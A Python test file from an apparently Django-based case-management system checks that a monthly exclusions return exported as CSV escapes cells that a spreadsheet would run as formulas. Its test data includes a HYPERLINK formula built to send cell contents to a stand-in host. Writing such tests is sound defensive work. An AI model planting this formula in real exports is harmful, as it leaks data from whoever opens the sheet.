"""The exclusions return's CSV neutralises text a spreadsheet would run as a formula: a grade or a case
reference starting with = + - @, a tab or a carriage return is written with a leading single quote."""

import csv
import datetime as dt
import io
from zoneinfo import ZoneInfo

import pytest
import time_machine

from faircase.cases.tests.factories import PractitionerFactory, open_case
from faircase.process import returns, services

pytestmark = pytest.mark.django_db

HOSTILE_GRADE = '=HYPERLINK("https://example.invalid/?leak="&A1,"Consultant")'
HOSTILE_REFERENCE = "+SUM(1)"


def test_a_hostile_grade_and_reference_are_neutralised_in_the_csv(organisation, case_manager):
    practitioner = PractitionerFactory(
        organisation=organisation, grade=HOSTILE_GRADE, full_name="Dr Imaginary"
    )
    case = open_case(
        organisation=organisation, practitioner=practitioner, by=case_manager, reference=HOSTILE_REFERENCE
    )
    started = dt.date(2027, 2, 1)
    with time_machine.travel(dt.datetime(2027, 2, 1, 12, tzinfo=ZoneInfo("Europe/London")), tick=False):
        services.record_restriction(
            case=case,
            kind="immediate_exclusion",
            started_on=started,
            terms="Off duty.",
            reasons="Protect patients.",
            by=case_manager,
        )
    with time_machine.travel(dt.datetime(2027, 3, 5, 12, tzinfo=ZoneInfo("Europe/London")), tick=False):
        generated = returns.generate_return(
            organisation=organisation, month=returns.parse_month("2027-02"), fmt="csv", by=case_manager
        )

    cells = [cell for row in csv.reader(io.StringIO(generated.content.decode("utf-8"))) for cell in row]
    assert f"'{HOSTILE_GRADE}" in cells
    assert f"'{HOSTILE_REFERENCE}" in cells
    assert not [cell for cell in cells if cell[:1] in {"=", "+", "@", "\t", "\r"}]
    assert "2027-02-01" in cells  # dates and counts are written as they were
